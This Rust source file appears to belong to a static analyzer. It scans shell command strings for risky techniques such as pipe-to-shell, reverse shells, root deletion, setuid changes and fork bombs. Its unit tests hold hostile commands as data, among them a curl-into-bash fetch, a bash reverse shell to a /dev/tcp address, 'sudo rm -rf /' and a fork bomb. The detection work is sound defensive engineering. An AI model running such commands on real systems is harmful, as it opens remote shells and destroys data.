//! A coarse word scan of a shell command line, used only when the bash
//! analyzer has nothing to say about a command string found in Python
//! (`os.system("...")`). It finds command names, redirect targets and a few
//! unmistakable techniques; it is not a shell parser and must not grow into
//! one: the bash analyzer owns shell semantics.

use super::tables;
use crate::analyze::{Fact, FactKind, Span};

/// Commands that take another command as their arguments.
const PREFIXES: &[&str] = &[
    "sudo", "nohup", "exec", "env", "timeout", "nice", "setsid", "command", "builtin", "xargs",
    "doas", "stdbuf",
];

/// Facts for a shell command line, all at `span`.
pub fn scan(cmd: &str, span: Span) -> Vec<Fact> {
    let mut out = Vec::new();
    scan_into(cmd, span, 0, &mut out);
    out
}

fn scan_into(cmd: &str, span: Span, depth: usize, out: &mut Vec<Fact>) {
    if depth > 3 {
        return;
    }
    fork_bomb(cmd, span, out);
    for (piped, segment) in segments(cmd) {
        let words = words(segment);
        let mut i = 0;
        // Leading assignments (`X=1 cmd`) are not the command.
        while words.get(i).is_some_and(|w| is_assignment(w)) {
            i += 1;
        }
        let mut first = true;
        while i < words.len() {
            let (cmd_words, redirects) = split_redirects(&words[i..]);
            for r in redirects {
                out.push(Fact::new(FactKind::Redirect, r, span));
            }
            let Some(name_word) = cmd_words.first() else {
                break;
            };
            if name_word.starts_with('$') {
                out.push(
                    Fact::new(FactKind::Signal, "variable-command", span)
                        .with_args(vec![name_word.clone()]),
                );
                break;
            }
            let name = tables::basename(name_word).to_string();
            let args: Vec<String> = cmd_words[1..].to_vec();
            techniques(&name, &args, piped && first, span, depth, out);
            out.push(Fact::new(FactKind::Command, name.clone(), span).with_args(args));
            first = false;
            if PREFIXES.contains(&name.as_str()) {
                // `sudo -u x cmd`, `timeout 5 cmd`: skip options and numbers, then the wrapped command.
                let mut j = 1;
                while cmd_words.get(j).is_some_and(|w| {
                    w.starts_with('-') || w.chars().all(|c| c.is_ascii_digit()) || is_assignment(w)
                }) {
                    j += 1;
                    if matches!(cmd_words.get(j - 1).map(String::as_str), Some("-u" | "-g")) {
                        j += 1;
                    }
                }
                i += j.max(1);
                continue;
            }
            break;
        }
    }
}

fn techniques(
    name: &str,
    args: &[String],
    piped: bool,
    span: Span,
    depth: usize,
    out: &mut Vec<Fact>,
) {
    let sig = |out: &mut Vec<Fact>, id: &str, a: &str| {
        out.push(Fact::new(FactKind::Signal, id, span).with_args(vec![a.to_string()]))
    };
    let interpreter = tables::is_shell_program(name)
        || name.starts_with("python")
        || matches!(name, "perl" | "ruby" | "node" | "php" | "lua");
    if piped && interpreter {
        sig(out, "pipe-to-shell", name);
    }
    if name == "rm"
        && args.iter().any(|a| {
            a.starts_with('-') && (a.contains('r') || a.contains('R')) || a == "--recursive"
        })
    {
        if let Some(t) = args
            .iter()
            .find(|a| !a.starts_with('-') && tables::is_root_like(a))
        {
            sig(out, "recursive-delete-root", t);
        }
    }
    if name == "chmod" {
        let setuid = args.iter().any(|a| {
            (a.contains("+s") || a.contains("=s"))
                || (a.len() == 4
                    && a.chars().all(|c| c.is_digit(8))
                    && matches!(a.as_bytes()[0], b'2' | b'4' | b'6'))
        });
        if setuid {
            sig(out, "setuid", "chmod");
        }
    }
    if matches!(name, "nc" | "ncat" | "netcat") && args.iter().any(|a| a == "-e" || a == "-c") {
        sig(out, "reverse-shell", name);
    }
    if name == "socat"
        && args.iter().any(|a| {
            a.to_ascii_lowercase().starts_with("exec:")
                || a.to_ascii_lowercase().starts_with("system:")
        })
    {
        sig(out, "reverse-shell", name);
    }
    if tables::is_shell_program(name) {
        if let Some(pos) = args
            .iter()
            .position(|a| a.starts_with('-') && !a.starts_with("--") && a.ends_with('c'))
        {
            if let Some(inner) = args.get(pos + 1) {
                scan_into(inner, span, depth + 1, out);
            }
        }
    }
    if name == "eval" && !args.is_empty() {
        sig(out, "dynamic-code", "eval");
        scan_into(&args.join(" "), span, depth + 1, out);
    }
    for a in args {
        if tables::is_cloud_metadata(a) {
            out.push(Fact::new(FactKind::String, a.clone(), span));
            sig(out, "cloud-metadata", a);
        }
        if tables::is_sensitive_path(a) {
            out.push(Fact::new(FactKind::String, a.clone(), span));
            sig(out, "sensitive-path", a);
        }
    }
}

/// `:(){ :|:& };:` and named variants: a function that pipes itself into itself.
fn fork_bomb(cmd: &str, span: Span, out: &mut Vec<Fact>) {
    let compact: String = cmd.chars().filter(|c| !c.is_whitespace()).collect();
    let Some(def) = compact.find("(){") else {
        return;
    };
    let name_start = compact[..def]
        .rfind(|c: char| !(c.is_alphanumeric() || c == '_' || c == ':'))
        .map_or(0, |i| i + 1);
    let name = &compact[name_start..def];
    if !name.is_empty() && compact[def..].contains(&format!("{name}|{name}")) {
        out.push(Fact::new(FactKind::Signal, "fork-bomb", span).with_args(vec![name.to_string()]));
    }
}

fn is_assignment(w: &str) -> bool {
    w.split_once('=')
        .is_some_and(|(k, _)| !k.is_empty() && k.chars().all(|c| c.is_alphanumeric() || c == '_'))
}

/// Splits on `;`, `&&`, `||`, `|`, `&`, newlines, `$(`, backticks and
/// parentheses; the flag says whether the segment reads a pipe.
fn segments(cmd: &str) -> Vec<(bool, &str)> {
    let mut out = Vec::new();
    let bytes = cmd.as_bytes();
    let (mut start, mut i, mut piped) = (0, 0, false);
    let mut quote: Option<u8> = None;
    while i < bytes.len() {
        let b = bytes[i];
        if let Some(q) = quote {
            if b == q {
                quote = None;
            }
            i += 1;
            continue;
        }
        let (sep, next_piped) = match b {
            b'\'' | b'"' => {
                quote = Some(b);
                i += 1;
                continue;
            }
            b'|' if bytes.get(i + 1) == Some(&b'|') => (2, false),
            b'|' => (1, true),
            b'&' if bytes.get(i + 1) == Some(&b'&') => (2, false),
            b'&' if i > 0 && matches!(bytes[i - 1], b'>' | b'<') => (0, false),
            b'&' if bytes.get(i + 1) == Some(&b'>') => (0, false),
            b'&' => (1, false),
            b';' | b'\n' | b'`' | b'(' | b')' | b'{' | b'}' => (1, false),
            b'$' if bytes.get(i + 1) == Some(&b'(') => (2, false),
            _ => (0, false),
        };
        if sep == 0 {
            i += 1;
            continue;
        }
        if let Some(s) = cmd.get(start..i) {
            out.push((piped, s));
        }
        piped = next_piped;
        i += sep;
        start = i;
    }
    if let Some(s) = cmd.get(start..) {
        out.push((piped, s));
    }
    out.retain(|(_, s)| !s.trim().is_empty());
    out
}

/// Words with quotes removed (`c''url` -> `curl`).
fn words(segment: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    let mut any = false;
    for c in segment.chars() {
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => cur.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                any = true;
            }
            (None, '\\') => {}
            (None, c) if c.is_whitespace() => {
                if !cur.is_empty() || any {
                    out.push(std::mem::take(&mut cur));
                }
                any = false;
            }
            (None, c) => cur.push(c),
        }
    }
    if !cur.is_empty() || any {
        out.push(cur);
    }
    out
}

/// Separates redirections (`>f`, `2>&1`, `< /dev/tcp/...`) from command words.
fn split_redirects(words: &[String]) -> (Vec<String>, Vec<String>) {
    let (mut cmd, mut redirects) = (Vec::new(), Vec::new());
    let mut i = 0;
    while i < words.len() {
        let w = &words[i];
        let op_end = w
            .find(|c: char| !(c.is_ascii_digit() || c == '>' || c == '<' || c == '&'))
            .unwrap_or(w.len());
        let is_redirect = w[..op_end].contains(['>', '<']);
        if is_redirect {
            let target = &w[op_end..];
            if target.is_empty() {
                if let Some(t) = words.get(i + 1) {
                    redirects.push(t.clone());
                    i += 1;
                }
            } else if !target.chars().all(|c| c.is_ascii_digit() || c == '-') {
                redirects.push(target.to_string());
            }
        } else {
            cmd.push(w.clone());
        }
        i += 1;
    }
    (cmd, redirects)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(cmd: &str) -> Vec<String> {
        scan(cmd, Span::default())
            .into_iter()
            .map(|f| format!("{}:{}", f.kind.as_str(), f.name))
            .collect()
    }

    #[test]
    fn scans() {
        let n = names("curl -s http://x/a.sh | bash");
        assert!(n.contains(&"command:curl".to_string()), "{n:?}");
        assert!(n.contains(&"signal:pipe-to-shell".to_string()), "{n:?}");
        let n = names("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        assert!(
            n.contains(&"redirect:/dev/tcp/10.0.0.1/4444".to_string()),
            "{n:?}"
        );
        let n = names("sudo rm -rf /");
        assert!(
            n.contains(&"signal:recursive-delete-root".to_string()),
            "{n:?}"
        );
        assert!(n.contains(&"command:rm".to_string()), "{n:?}");
        let n = names(":(){ :|:& };:");
        assert!(n.contains(&"signal:fork-bomb".to_string()), "{n:?}");
        let n = names("c''url x");
        assert!(n.contains(&"command:curl".to_string()), "{n:?}");
        let n = names("ls -la /tmp");
        assert_eq!(n, vec!["command:ls".to_string()]);
    }
}
